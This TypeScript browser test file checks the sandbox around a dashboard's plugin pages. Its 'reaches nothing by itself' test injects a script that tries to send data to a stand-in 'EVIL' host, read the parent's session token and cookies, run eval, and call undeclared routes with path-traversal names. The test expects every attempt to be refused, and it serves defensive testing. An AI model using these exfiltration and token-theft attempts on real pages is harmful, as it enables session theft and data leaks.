// Plugins' own pages: what they can do, and all that they cannot.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { FrameLocator, Page } from 'playwright-core'
import { afterEach, describe, expect, it } from 'vitest'
import { createTestGateway, type TestGateway } from '../../adapters/testing/test-gateway.ts'
import { BROWSER, openPage, type TestPage } from './browser.ts'
import { type FramePlugin, framePlugin } from './frame-plugin.ts'

const BOARD = '/system?tab=plugins&open=shop&page=board'
/** Messages of the browser about the frame's attempts. The target of each attempt counts those that arrive. */
const REFUSED = /Content Security Policy|sandbox|violation of|net::ERR|plugin-pages|Unsafe attempt|a request to|\b4\d\d\b/i

describe.skipIf(BROWSER === null)("a plugin's page (needs chromium)", () => {
  let t: TestGateway
  let elsewhere: Server
  const hits: string[] = []
  afterEach(async () => {
    await t.close()
    elsewhere?.close()
    hits.length = 0
  })

  async function show(script: string, env = {}): Promise<TestPage & { shop: FramePlugin; frame: FrameLocator; origin: string }> {
    elsewhere = createServer((request, response) => {
      hits.push(request.url as string)
      response.end()
    })
    elsewhere.on('connection', () => hits.push('a connection'))
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    const evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    const shop = await framePlugin(script.replaceAll('EVIL', evil))
    t = await createTestGateway({ env, plugins: [shop.plugin] })
    const origin = (await t.listen()).url
    const opened = await openPage(origin, BOARD, { expected: REFUSED })
    return { ...opened, shop, origin, frame: opened.page.frameLocator('iframe') }
  }
  const said = async (frame: FrameLocator, last: string): Promise<string[]> => {
    await frame.getByText(last).waitFor()
    return (await frame.locator('#out').innerText()).trim().split('\n')
  }

  it('calls the routes that it declared, and follows theme, height and title', async () => {
    const { page, frame, shop, close } = await show(`
      ready.then(async () => {
        const item = await call('GET /api/shop/items/:name', { params: { name: 'a/b ?#' }, query: { q: 1 } })
        show(JSON.stringify(item.body))
        const made = await call('POST /api/shop/items', { body: { n: 1 } })
        show(made.status + ' ' + made.body.mark)
        const wrong = await call('POST /api/shop/items', { body: { n: 'x' } })
        show(wrong.status + ' ' + wrong.body.error.param)
        port.postMessage({ height: 612.4, title: '3 items' })
        show('end')
      })`)
    expect(await said(frame, 'end')).toEqual(['{"mark":"item","name":"a/b ?#"}', '200 made', '400 n', 'end'])
    expect(shop.asked).toEqual(['item', 'made'])
    await page.getByText('Board: 3 items').waitFor()
    expect(await page.locator('iframe').getAttribute('height')).toBe('613')
    expect(await frame.locator('#out').evaluate((out) => getComputedStyle(out).color)).toBe('rgb(1, 2, 3)')
    await page.getByRole('button', { name: /^Theme/ }).click()
    await page.getByRole('button', { name: /^Theme/ }).click()
    await frame.locator('html[data-theme="dark"]').waitFor()
    await close()
  })

  it('reaches nothing by itself', async () => {
    const { page, frame, shop, close } = await show(`
      const attempt = async (name, run) => {
        try { show(name + ': ' + ((await run()) ?? 'done')) } catch (error) { show(name + ': refused') }
      }
      ready.then(async () => {
        await attempt('fetch', () => fetch('/api/shop/secret').then(() => 'reached'))
        await attempt('fetch elsewhere', () => fetch('EVIL/fetch', { mode: 'no-cors' }).then(() => 'reached'))
        await attempt('xhr', () => new Promise((resolve, reject) => {
          const xhr = new XMLHttpRequest()
          xhr.onload = () => resolve('reached')
          xhr.onerror = reject
          xhr.open('GET', '/api/shop/secret')
          xhr.send()
        }))
        await attempt('socket', () => new Promise((resolve, reject) => {
          const socket = new WebSocket('EVIL'.replace('http', 'ws'))
          socket.onopen = () => resolve('reached')
          socket.onerror = reject
        }))
        await attempt('beacon', () => { navigator.sendBeacon('EVIL/beacon', 'x') })
        await attempt('image', () => new Promise((resolve, reject) => {
          const image = new Image()
          image.onload = resolve
          image.onerror = reject
          image.src = 'EVIL/image'
        }))
        await attempt('top', () => { top.location = 'EVIL/top' })
        await attempt('popup', () => (open('EVIL/popup') === null ? 'refused' : 'opened'))
        await attempt('form', () => {
          const form = document.createElement('form')
          form.action = 'EVIL/form'
          form.method = 'post'
          document.body.append(form)
          form.submit()
        })
        await attempt('parent', () => parent.document.title)
        await attempt('token', () => parent.sessionStorage.session)
        await attempt('storage', () => localStorage.length + 'readable')
        await attempt('cookie', () => document.cookie + 'readable')
        await attempt('eval', () => eval('"ran"'))
        await attempt('inline', () => new Promise((resolve, reject) => {
          const script = document.createElement('script')
          script.textContent = 'window.ran = true'
          document.body.append(script)
          window.ran ? resolve('ran') : reject()
        }))
        const channel = new BroadcastChannel('hookgate-session')
        channel.onmessage = ({ data }) => show('session: ' + JSON.stringify(data))
        channel.postMessage({ ask: true })
        for (const [text, rest] of [
          ['GET /api/shop/secret'],
          ['GET /api/keys'],
          ['DELETE /api/shop/items'],
          ['GET /api/shop/items/:name', { params: { name: '..' } }],
          ['GET /api/shop/items/:name', { params: { name: '.' } }],
          ['GET /api/shop/items/:name', { params: { name: '' } }],
          ['GET /api/shop/items/:name', {}],
          ['GET /api/shop/items/:name', { params: { name: '\\ud800' } }],
          ['constructor'],
        ]) {
          const reply = await call(text, rest)
          show('call: ' + (reply.error ? 'refused' : reply.status))
        }
        await new Promise((resolve) => setTimeout(resolve, 300))
        show('end')
      })`)
    const lines = await said(frame, 'end')
    expect(lines.filter((line) => !/: (?:refused|done)$/.test(line))).toEqual(['end'])
    expect(hits).toEqual([])
    expect(shop.asked).toEqual([])
    expect(new URL(page.url()).pathname).toBe('/system')
    expect(page.context().pages()).toHaveLength(1)
    await close()
  })

  const stillThere = async (page: Page): Promise<void> => {
    await page.getByText('The page was closed').waitFor()
    await page.getByRole('link', { name: 'Keys', exact: true }).click()
    await page.getByRole('heading', { name: 'Keys', exact: true }).waitFor()
  }

  it.each<[string, string, RegExp]>([
    ['floods its port', `for (let i = 0; i < 100_000; i++) port.postMessage({ height: i })`, /too many messages/],
    ['sends a huge message', `port.postMessage({ title: 'x'.repeat(30_000_000) })`, /above 1 MiB/],
    ['sends what is no JSON', `port.postMessage({ id: 1n })`, /no JSON/],
    ['sends a circle', `const a = {}; a.a = a; port.postMessage(a)`, /no JSON/],
    ['sends null', `port.postMessage(null)`, /no JSON/],
    ['goes to another file', `location = 'lib/page.js'`, /another address/],
  ])('that %s is closed, and the dashboard goes on', async (_name, script, why) => {
    const { page, close } = await show(`ready.then(() => { ${script} })`)
    await page.getByText(why).waitFor()
    await stillThere(page)
    await close()
  })

  it('that goes elsewhere stays where it is', async () => {
    const { page, close } = await show(`ready.then(() => { location = 'EVIL/away' })`)
    await page.waitForTimeout(500)
    // Browsers may connect ahead of the policy; no request follows.
    expect(hits.filter((hit) => hit !== 'a connection')).toEqual([])
    await close()
  })

  it('makes at most ten calls a second', async () => {
    const { frame, close } = await show(`
      ready.then(async () => {
        const replies = await Promise.all(Array.from({ length: 30 }, () => call('POST /api/shop/items', { body: { n: 1 } })))
        show(replies.filter(({ status }) => status === 200).length + ' answered')
        show('end')
      })`)
    expect(await said(frame, 'end')).toEqual(['10 answered', 'end'])
    await close()
  })

  it('is not there in the cloud profile or when it is switched off', async () => {
    const shop = await framePlugin('')
    t = await createTestGateway({ env: { DASHBOARD_PLUGIN_PAGES: 'false' }, plugins: [shop.plugin] })
    const origin = (await t.listen()).url
    expect((await fetch(`${origin}/plugin-pages/shop/board/index.html`)).status).toBe(404)
    const { page, close } = await openPage(origin, '/system?tab=plugins&open=shop')
    await page.getByText('Pages of plugins are switched off').waitFor()
    await close()
  })
})
